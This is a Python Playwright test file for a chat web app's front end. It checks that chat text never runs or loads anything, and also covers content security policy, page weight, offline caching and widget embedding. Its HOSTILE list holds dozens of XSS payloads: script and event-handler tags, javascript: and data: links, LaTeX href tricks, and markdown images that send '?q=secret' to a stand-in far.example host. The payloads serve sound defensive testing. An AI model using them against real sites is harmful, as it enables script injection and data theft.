"""Nothing that is written in a chat becomes markup, runs, or is fetched from elsewhere; and the page stays light."""

from __future__ import annotations

import gzip
import http.server
import re
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from live import served

from ladderlm.serve.models import Models
from ladderlm.talk.echo import EchoChat

pytestmark = pytest.mark.slow
pytest.importorskip("uvicorn")
playwright = pytest.importorskip("playwright.sync_api")
expect = playwright.expect

FAR = "http://far.example"
HOSTILE = [
    "<script>window.hit=1</script>",
    "<img src=x onerror=window.hit=1>",
    f"<img src={FAR}/a.png>",
    "<svg onload=window.hit=1><animate onbegin=window.hit=1 attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    f"<link rel=stylesheet href={FAR}/a.css><style>@import '{FAR}/b.css';</style>",
    f"<object data={FAR}/o></object><embed src={FAR}/e><video src={FAR}/v autoplay></video>",
    f"<meta http-equiv=refresh content='0;url={FAR}'>",
    f"<base href={FAR}/><form action={FAR}><button>go</button></form>",
    "<math><mtext></p><img src=x onerror=window.hit=1></mtext></math>",
    "<details open ontoggle=window.hit=1>x</details>",
    f"![pic]({FAR}/p.png?q=secret) ![pic][r]\n\n[r]: {FAR}/r.png",
    f"[![pic]({FAR}/i.png)]({FAR}/link)",
    "[bad](javascript:window.hit=1) [bad](JaVaScRiPt:window.hit=1) [bad](&#106;avascript:window.hit=1)",
    "[bad](data:text/html,<script>parent.hit=1</script>) [bad](vbscript:x) [bad](//far.example/x)",
    "[bad](\tjavascript:window.hit=1)",
    "<javascript:window.hit=1> <a href='javascript:window.hit=1'>x</a>",
    "```html\n<script>window.hit=1</script><img src=x onerror=window.hit=1>\n```",
    "```\"><img src=x onerror=window.hit=1>\nx\n```",
    "`<img src=x onerror=window.hit=1>`",
    "| <img src=x onerror=window.hit=1> | b |\n|---|---|\n| <script>window.hit=1</script> | ![x]("
    "http://far.example/t.png) |",
    "- [ ] <img src=x onerror=window.hit=1>\n- [x] ![x](http://far.example/l.png)",
    "# <img src=x onerror=window.hit=1>\n\n> <script>window.hit=1</script>",
    r"$\href{javascript:window.hit=1}{x}$ $\includegraphics{http://far.example/m.png}$ $\url{javascript:window.hit=1}$",
    r"$$\htmlData{onclick=window.hit=1}{x} \style{background:url(http://far.example/s.png)}{y} \class{a}{b}$$",
    r"$\def\a{\a\a}\a$ $\text{<img src=x onerror=window.hit=1>}$",
    "\u202e\u0000<img src=x onerror=window.hit=1>",
    "[click](http://far.example/?q=secret \"title<img src=x onerror=window.hit=1>\")",
    "<http://far.example/auto> http://far.example/bare www.far.example",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
    "<style>*{background:url(http://far.example/css.png)}</style><p style=\"background:url(http://far.example/inline.png)\">",
    "[x]: http://far.example/ref.png\n![x]",
    "&lt;img src=x onerror=window.hit=1&gt; &#60;script&#62;window.hit=1&#60;/script&#62;",
]  # fmt: skip


def test_hostile_text_stays_text(opened: Any) -> None:
    page = opened.page
    page.context.route(f"{FAR}/**", lambda route: route.abort())
    opened.ask("\n\n".join(HOSTILE))
    opened.done()
    for text in HOSTILE:
        opened.ask(text)
        opened.done()
    page.wait_for_timeout(300)
    assert page.evaluate("window.hit") is None
    places = "#messages :is(img, script, iframe, object, embed, video, audio, form, style, link, meta, base, svg image)"
    assert page.locator(places).count() == 0
    links = page.locator("#messages a")
    assert links.count() > 0
    for link in links.all():
        assert re.match(r"https?://|mailto:", link.get_attribute("href"))
        assert "noopener" in link.get_attribute("rel")
        assert link.get_attribute("href").rstrip(
            "/"
        ) in link.inner_text() + "/" or link.inner_text() in link.get_attribute("href")
    attributes = page.evaluate(
        "[...document.querySelectorAll('#messages *')].flatMap(e => [...e.attributes].map(a => a.name))"
    )
    assert not [name for name in attributes if name.startswith("on") or name in ("srcdoc", "formaction")]
    page.reload()  # and what comes from the history is no better
    expect(opened.answer).to_be_visible()
    page.wait_for_timeout(300)
    assert page.evaluate("window.hit") is None
    assert page.locator(places).count() == 0


def test_hostile_titles_and_names(opened: Any) -> None:
    page = opened.page
    opened.ask("<img src=x onerror=window.hit=1>")
    opened.done()
    page.keyboard.press("Control+k")
    page.keyboard.type("onerror")
    expect(page.locator("#found li")).to_have_count(1)
    assert page.locator("#found img, #chat-list img").count() == 0
    assert page.evaluate("window.hit") is None


def test_the_policy_forbids_what_a_mistake_would_do(opened: Any) -> None:
    opened.allow("Content Security Policy", "TrustedHTML", "requires", "TrustedTypePolicy")
    done = opened.page.evaluate(
        """async () => {
            const out = {};
            try { document.body.innerHTML = "<b>x</b>"; out.html = true; } catch { out.html = false; }
            try { await fetch("http://far.example/"); out.fetch = true; } catch { out.fetch = false; }
            try { trustedTypes.createPolicy("mine", {}); out.policy = true; } catch { out.policy = false; }
            return out;
        }"""
    )
    assert done == {"html": False, "fetch": False, "policy": False}


def test_the_page_is_light_and_quick(opened: Any, built_page: Path) -> None:
    page = opened.page
    index = (built_page / "index.html").read_text()
    named = re.findall(r'(?:src|href)="\./(assets/[^"]+\.(?:js|css))"', index)
    assert named
    scripts = [built_page / name for name in named if name.endswith(".js")]
    for script in list(scripts):  # what the first script imports at once
        for name in re.findall(r'from"\./([\w.-]+\.js)"|import"\./([\w.-]+\.js)"', script.read_text()):
            scripts.append(script.parent / (name[0] or name[1]))
    size = sum(len(gzip.compress(script.read_bytes())) for script in set(scripts))
    assert size < 100_000
    paints = []
    for _ in range(3):
        page.reload()
        page.locator("#prompt").wait_for()
        entries = page.evaluate("performance.getEntriesByName('first-contentful-paint').map(e => e.startTime)")
        paints += entries
    assert min(paints) < 1000


def test_the_app_installs_and_keeps_only_its_shell(open_page: Any) -> None:
    opened = open_page(worker=True)
    page = opened.page
    assert page.evaluate("navigator.serviceWorker.ready.then(r => r.active !== null)")
    opened.ask("kept by the server alone")
    opened.done()
    page.reload()
    opened.answer.wait_for()
    kept = page.evaluate(
        """async () => {
            const names = await caches.keys();
            const found = [];
            for (const name of names)
                for (const r of await (await caches.open(name)).keys()) found.push(new URL(r.url).pathname);
            return found;
        }"""
    )
    assert "/" in kept
    assert not [path for path in kept if path.startswith(("/v1", "/health"))]
    manifest = httpx.get(f"{opened.url}/manifest.webmanifest")
    assert manifest.headers["content-type"].startswith("application/manifest+json")
    for icon in manifest.json()["icons"]:
        assert httpx.get(f"{opened.url}/{icon['src']}").status_code == 200
    opened.allow("ERR_", "Failed to load")
    page.context.set_offline(True)
    page.reload()
    expect(page.locator("#notice")).to_contain_text("does not answer")
    page.context.set_offline(False)


@pytest.fixture
def site(tmp_path: Path) -> Iterator[tuple[str, Path]]:
    """Another site: its origin, and the folder that it serves."""

    class Quiet(http.server.SimpleHTTPRequestHandler):
        def __init__(self, *args: Any) -> None:
            super().__init__(*args, directory=str(tmp_path))

        def log_message(self, *args: Any) -> None: ...

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Quiet)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}", tmp_path
    server.shutdown()


@pytest.mark.parametrize("listed", [True, False])
def test_the_widget_stands_on_listed_sites_only(browser: Any, site: tuple[str, Path], listed: bool) -> None:
    origin, folder = site
    settings: dict[str, Any] = {"embed": (origin,)} if listed else {"embed": ("https://other.example",)}
    with served(Models(("echo",), opener=lambda ref: EchoChat()), **settings) as url:
        (folder / "index.html").write_text(
            f"<h1>Shop</h1><script src='{url}/widget.js' data-title='Ask us' defer></script>"
        )
        page = browser.new_page()
        page.goto(origin)
        page.get_by_role("button", name="Ask us").click()
        frame = page.frame_locator("iframe")
        if listed:
            frame.locator("#prompt").fill("hello shop")
            frame.locator("#prompt").press("Enter")
            expect(frame.locator(".turn.assistant .prose")).to_have_text("hello shop")
            frame.get_by_label("Close").click()
            expect(page.locator("iframe")).to_be_hidden()
        else:
            page.wait_for_timeout(500)
            assert frame.locator("#prompt").count() == 0
        page.close()


def test_nothing_is_embedded_unless_asked_for(built_page: Path) -> None:
    with served(Models(("echo",), opener=lambda ref: EchoChat())) as url:
        for path in ("/", "/widget.html"):
            headers = httpx.get(url + path).headers
            assert "frame-ancestors 'none'" in headers["content-security-policy"]
            assert headers["x-frame-options"] == "DENY"
        assert httpx.get(f"{url}/widget.js").headers["cross-origin-resource-policy"] == "same-origin"
